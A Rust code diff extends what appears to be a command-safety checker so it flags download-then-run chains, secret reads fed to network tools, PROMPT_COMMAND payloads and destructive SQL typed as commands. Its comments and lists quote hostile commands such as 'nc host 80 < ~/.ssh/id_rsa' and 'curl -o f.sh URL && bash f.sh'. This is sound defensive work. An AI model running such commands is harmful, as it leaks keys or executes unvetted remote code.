@@ -87,8 +87,13 @@ pub struct Walker<'a> {
     /// Files written earlier in the line with known literal content (`echo CMD > f.sh`), for
     /// commands that later run them (`bash f.sh`, `./f.sh`).
     written: Vec<(String, String)>,
+    /// Files a downloader saved earlier in the line (`curl -o f.sh URL`, `wget URL`), with the
+    /// download command, for commands that later run them.
+    downloaded: Vec<(String, String)>,
     /// Output redirection targets of the command being walked.
     redirect_targets: Vec<String>,
+    /// Files the command being walked reads through `< FILE`.
+    input_sources: Vec<String>,
 }
 
 fn cut(s: &str) -> String {
@@ -121,7 +126,9 @@ impl<'a> Walker<'a> {
             quiet_parse_errors: false,
             proc_programs: Vec::new(),
             written: Vec::new(),
+            downloaded: Vec::new(),
             redirect_targets: Vec::new(),
+            input_sources: Vec::new(),
         }
     }
 
@@ -543,16 +550,28 @@ impl<'a> Walker<'a> {
         }
         let mut writes = false;
         self.redirect_targets.clear();
+        self.input_sources.clear();
         for io in redirects {
             writes |= self.walk_redirect(io, depth, &mut feed);
         }
         let targets = std::mem::take(&mut self.redirect_targets);
+        self.note_downloaded(&argv, &targets);
         self.note_written(&argv, feed.as_deref(), targets);
         if writes {
             self.all_read_only = false;
         }
         if argv.is_empty() {
             return Stage::default();
+        }
+        // `CMD < FILE` reads FILE like `cat FILE | CMD`: the secret-reading and exfiltration
+        // rules judge it in that form (`nc host 80 < ~/.ssh/id_rsa`)
+        if !self.input_sources.is_empty() {
+            let consumer = canon::render(&argv);
+            for f in std::mem::take(&mut self.input_sources) {
+                let reader = format!("cat {}", canon::quote(&f));
+                self.rule_hits(Target::Command, &reader);
+                self.rule_hits(Target::Pipeline, &format!("{reader} | {consumer}"));
+            }
         }
         if !root_risk.is_empty() && is_destructive(&argv) {
             let text = canon::join(&argv);
@@ -689,6 +708,10 @@ impl<'a> Walker<'a> {
                 // what is assigned can matter by itself (a literal secret, a look-alike URL)
                 let text = format!("{name}={}", canon::quote(&e.text));
                 self.rule_hits(Target::Command, &text);
+                // bash runs PROMPT_COMMAND before every prompt
+                if name == "PROMPT_COMMAND" && !e.text.is_empty() {
+                    self.walk_script(&e.text, depth + 1);
+                }
                 if e.dynamic || a.append {
                     self.env.remove(&name);
                 } else {
@@ -720,6 +743,10 @@ impl<'a> Walker<'a> {
                         let e = self.expand_word(&w.value, depth);
                         if writes {
                             return self.write_target(&e.text);
+                        }
+                        if matches!(kind, IoFileRedirectKind::Read) && self.input_sources.len() < 8
+                        {
+                            self.input_sources.push(e.text);
                         }
                         false
                     }
@@ -840,6 +867,9 @@ impl<'a> Walker<'a> {
                 {
                     self.env.insert(k.to_string(), v.to_string());
                 }
+                if let Some(v) = a.strip_prefix("PROMPT_COMMAND=") {
+                    self.walk_script(v, depth + 1);
+                }
             }
         }
         let inners = unwrap::unwrap(&argv);
@@ -847,11 +877,25 @@ impl<'a> Walker<'a> {
             ("xargs", Some(Inner::Argv(cmd))) => xargs_mode(&argv).map(|p| (cmd.clone(), p)),
             _ => None,
         };
+        // `xargs CMD <<< PATHS` / `xargs CMD <<EOF`: the words xargs adds are known
+        if let (Some((cmd, placeholder)), Some(body)) = (&xargs, feed) {
+            for argv in xargs_commands(cmd, placeholder.as_deref(), body) {
+                self.run_argv(argv, depth + 1, None);
+            }
+        }
         let transparent = !inners.is_empty()
             && inners.iter().all(|i| matches!(i, Inner::Argv(_)))
             && !matches!(
                 name.as_str(),
-                "sudo" | "doas" | "su" | "runuser" | "chroot" | "ssh"
+                "sudo"
+                    | "doas"
+                    | "su"
+                    | "runuser"
+                    | "chroot"
+                    | "ssh"
+                    | "pkexec"
+                    | "run0"
+                    | "nsenter"
             );
         let read_only = readonly::is_read_only(&argv);
         if self.ran.len() < MAX_RAN {
@@ -922,6 +966,8 @@ impl<'a> Walker<'a> {
         }
         // `echo CMD > f.sh; bash f.sh` or `./f.sh`: a file written earlier in the line
         self.run_written(&name, &argv, depth);
+        // `curl -o f.sh URL && bash f.sh`: a download run as code, like `curl URL | bash`
+        self.run_downloaded(&name, &argv, &text);
         // `bash <(echo CMD)`, `source <(printf …)`: the file read as a script is known text
         let runs_file = if matches!(name.as_str(), "source" | ".") {
             Some(Lang::Shell)
@@ -943,6 +989,11 @@ impl<'a> Walker<'a> {
             } else {
                 self.walk_code(lang, &program, depth + 1);
             }
+        }
+        // a destructive SQL statement typed as a command line: no shell runs it, but in a
+        // persistent terminal it reaches the database client left in the foreground
+        if looks_like_sql(&argv) {
+            self.walk_code(Lang::Sql, &argv.join(" "), depth + 1);
         }
         if let Some(body) = feed
             && unwrap::is_db_client(&name)
@@ -985,6 +1036,62 @@ impl<'a> Walker<'a> {
                 add(t, content);
             }
         }
+    }
+
+    /// Remembers the files a downloader (`curl`, `wget`, …) saves, wherever it sits in `argv`
+    /// (`sudo curl -o f URL`), including its standard output redirected to a file.
+    fn note_downloaded(&mut self, argv: &[String], targets: &[String]) {
+        let Some(at) = argv.iter().take(8).position(|a| {
+            let b = unwrap::base(a);
+            is_downloader(b)
+                || (b.bytes().any(|c| c == b'.' || c.is_ascii_uppercase())
+                    && is_downloader(&unwrap::program_name(a)))
+        }) else {
+            return;
+        };
+        let fetch = &argv[at..];
+        let text = canon::render(fetch);
+        for f in download_outputs(fetch).iter().chain(targets) {
+            if self.downloaded.len() < 16 && !f.is_empty() && f != "-" {
+                self.downloaded
+                    .push((written_key(f).to_string(), text.clone()));
+            }
+        }
+    }
+
+    /// A command that runs a file downloaded earlier in the line: the script of a shell or
+    /// `source`, the program of an interpreter, or the command itself (`./install.sh`).
+    fn run_downloaded(&mut self, name: &str, argv: &[String], text: &str) {
+        if self.downloaded.is_empty() {
+            return;
+        }
+        let runs_file = matches!(name, "source" | ".")
+            || unwrap::lang_of(name).is_some_and(|l| !matches!(l, Lang::Awk | Lang::Sed));
+        let file = if runs_file {
+            argv[1..].iter().find(|a| !a.starts_with('-'))
+        } else {
+            argv.first()
+        };
+        let Some(file) = file else { return };
+        let key = written_key(file);
+        let Some((_, fetch)) = self.downloaded.iter().find(|(k, _)| k == key).cloned() else {
+            return;
+        };
+        // the same check as `FETCH | RUNNER` (plain HTTP, known hosts…)
+        let runner = if runs_file {
+            text.to_string()
+        } else {
+            "sh".to_string()
+        };
+        self.rule_hits(Target::Pipeline, &format!("{fetch} | {runner}"));
+        self.engine(
+            "download_run",
+            ReasonCode::DynamicCode,
+            (Decision::Ask, Tier::High, Severity::High),
+            format!("`{}` runs a file downloaded earlier in the same line, so what runs is whatever the server sent; a person must look. Download it, read it, then run it in a separate step.", cut(text)),
+            "Fetch the file yourself and read it before approving; saving a download and running it in one line is `curl | sh` in two steps.",
+            text,
+        );
     }
 
     /// Analyses a file written earlier in the line when this command runs it: as the script of
@@ -1042,7 +1149,20 @@ impl<'a> Walker<'a> {
     fn walk_code(&mut self, lang: Lang, code: &str, depth: usize) {
         let matched = self.rule_hits(Target::Code, code);
         if lang == Lang::Sql {
-            // statements are judged by the database rules alone
+            // statements are judged by the database rules alone, each one as if given to a
+            // client with `-c` (the rules name the clients; `sql` stands for any of them)
+            for stmt in code
+                .split(';')
+                .map(str::trim)
+                .filter(|s| !s.is_empty())
+                .take(32)
+            {
+                let one_line = stmt.split_whitespace().collect::<Vec<_>>().join(" ");
+                self.rule_hits(
+                    Target::Command,
+                    &format!("sql -c {}", canon::quote(&one_line)),
+                );
+            }
             return;
         }
         let caps = inline::capabilities(lang, code);
@@ -1076,6 +1196,103 @@ impl<'a> Walker<'a> {
             );
         }
     }
+}
+
+/// `DROP TABLE x`, `DELETE FROM x`, `TRUNCATE x`, `UPDATE x SET …`, `ALTER TABLE x …` typed as
+/// a command line (any letter case).
+fn looks_like_sql(argv: &[String]) -> bool {
+    let is = |i: usize, w: &str| argv.get(i).is_some_and(|a| a.eq_ignore_ascii_case(w));
+    if argv.len() < 2 {
+        return false;
+    }
+    if is(0, "drop") {
+        return [
+            "table",
+            "tables",
+            "database",
+            "schema",
+            "keyspace",
+            "view",
+            "index",
+            "owned",
+            "materialized",
+            "collection",
+            "user",
+            "role",
+        ]
+        .iter()
+        .any(|w| is(1, w));
+    }
+    (is(0, "delete") && is(1, "from"))
+        || is(0, "truncate")
+        || (is(0, "alter") && is(1, "table"))
+        || (is(0, "update") && is(2, "set"))
+}
+
+/// Programs that fetch a URL into a file.
+fn is_downloader(name: &str) -> bool {
+    matches!(
+        name,
+        "curl" | "wget" | "wget2" | "aria2c" | "fetch" | "http" | "https" | "xh" | "axel"
+    )
+}
+
+/// The files a downloader's own options name (`curl -o F`, `curl -O URL`, `wget -O F`, `wget
+/// URL`): URL-named outputs use the last path segment, as the tools do.
+fn download_outputs(fetch: &[String]) -> Vec<String> {
+    let name = unwrap::program_name(&fetch[0]);
+    let curl_like = !matches!(name.as_str(), "wget" | "wget2" | "axel" | "aria2c");
+    let mut out = Vec::new();
+    let mut named = false;
+    let mut remote_name = !curl_like;
+    let mut i = 1;
+    while i < fetch.len() {
+        let a = fetch[i].as_str();
+        let value = |i: usize| fetch.get(i + 1).cloned();
+        if let Some(v) = a
+            .strip_prefix("--output=")
+            .or_else(|| a.strip_prefix("--output-document="))
+            .or_else(|| a.strip_prefix("--out="))
+        {
+            out.push(v.to_string());
+            named = true;
+        } else if matches!(a, "--output" | "--output-document" | "--out") {
+            out.extend(value(i));
+            named = true;
+            i += 1;
+        } else if a == "--remote-name" || a == "--remote-name-all" {
+            remote_name = true;
+        } else if a.starts_with('-') && !a.starts_with("--") && a.len() > 1 {
+            // a short cluster: the output letter takes the rest of the word or the next word
+            let letter = if curl_like { 'o' } else { 'O' };
+            if let Some(pos) = a.find(letter) {
+                let rest = &a[pos + 1..];
+                if rest.is_empty() {
+                    out.extend(value(i));
+                    i += 1;
+                } else {
+                    out.push(rest.to_string());
+                }
+                named = true;
+            } else if curl_like && a.contains('O') {
+                remote_name = true;
+            }
+        }
+        i += 1;
+    }
+    if remote_name && !named {
+        for u in fetch[1..].iter().filter(|a| a.contains("://")) {
+            let path = u.split(['?', '#']).next().unwrap_or("");
+            let after_host = path.split_once("://").map_or(path, |(_, r)| r);
+            match after_host.split_once('/') {
+                Some((_, p)) if !p.is_empty() && !p.ends_with('/') => {
+                    out.extend(p.rsplit('/').next().map(String::from));
+                }
+                _ => out.push("index.html".to_string()),
+            }
+        }
+    }
+    out
 }
 
 /// The key a written file is remembered by: `./x.sh` and `x.sh` are the same file.
